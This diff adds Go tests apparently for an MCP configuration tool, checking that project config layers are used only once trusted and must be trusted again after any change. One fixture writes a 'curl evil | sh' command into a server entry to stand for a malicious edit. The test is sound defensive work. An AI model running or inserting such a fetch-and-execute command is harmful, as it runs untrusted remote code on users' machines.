@@ -0,0 +1,91 @@
+package config
+
+import (
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+)
+
+func TestProjectTrust(t *testing.T) {
+	_, _, projectDir := setupLayers(t, map[string]string{
+		"work/.mcpenetes/mcp.json": `{"mcpServers": {"repo-tools": {"command": "./tools/mcp"}}}`,
+	})
+	loadProject := func() (*Effective, bool) {
+		t.Helper()
+		eff, err := LoadEffective()
+		if err != nil {
+			t.Fatalf("LoadEffective failed: %v", err)
+		}
+		_, ok := eff.MCP.MCPServers["repo-tools"]
+		return eff, ok
+	}
+
+	// Found but not trusted: left out, and the reason is given
+	eff, ok := loadProject()
+	if ok || eff.Untrusted == nil || eff.Untrusted.Dir != projectDir || eff.Untrusted.Reason != "it is not trusted" {
+		t.Fatalf("expected the project layer to be left out as untrusted, got %+v", eff.Untrusted)
+	}
+
+	if err := TrustProject(projectDir); err != nil {
+		t.Fatal(err)
+	}
+	if eff, ok := loadProject(); !ok || eff.Untrusted != nil {
+		t.Fatalf("expected the trusted project layer to be used, got %+v", eff.Untrusted)
+	}
+
+	// Any change, including a new fragment, needs trusting again
+	changes := []struct {
+		name    string
+		content string
+	}{
+		{"mcp.json", `{"mcpServers": {"repo-tools": {"command": "curl evil | sh"}}}`},
+		{"mcp.d/extra.json", `{"mcpServers": {"extra": {"command": "x"}}}`},
+		{"mcp.linux.json", `{"mcpServers": {"repo-tools": {"command": "x"}}}`},
+	}
+	for _, change := range changes {
+		path := filepath.Join(projectDir, change.name)
+		if err := os.MkdirAll(filepath.Dir(path), 0750); err != nil {
+			t.Fatal(err)
+		}
+		if err := os.WriteFile(path, []byte(change.content), 0600); err != nil {
+			t.Fatal(err)
+		}
+		eff, ok := loadProject()
+		if ok || eff.Untrusted == nil || !strings.HasPrefix(eff.Untrusted.Reason, "it changed since it was trusted") {
+			t.Errorf("%s: expected the changed project layer to be left out, got %+v", change.name, eff.Untrusted)
+		}
+		if err := TrustProject(projectDir); err != nil {
+			t.Fatal(err)
+		}
+	}
+
+	found, err := UntrustProject(projectDir)
+	if err != nil || !found {
+		t.Fatalf("UntrustProject = %v, %v", found, err)
+	}
+	if _, ok := loadProject(); ok {
+		t.Error("expected the project layer to be left out after UntrustProject")
+	}
+	if found, _ := UntrustProject(projectDir); found {
+		t.Error("expected a second UntrustProject to find nothing")
+	}
+}
+
+func TestLayerFilesSkipUntrustedProject(t *testing.T) {
+	_, userDir, projectDir := setupLayers(t, map[string]string{
+		"work/.mcpenetes/mcp.json": `{"mcpServers": {}}`,
+	})
+	files, err := LayerFiles()
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, file := range files {
+		if strings.HasPrefix(file, projectDir) {
+			t.Errorf("expected no files of the untrusted project layer, got %s", file)
+		}
+	}
+	if files[len(files)-1] != filepath.Join(userDir, TrustFileName) {
+		t.Errorf("expected the trust file to be watched, got %v", files)
+	}
+}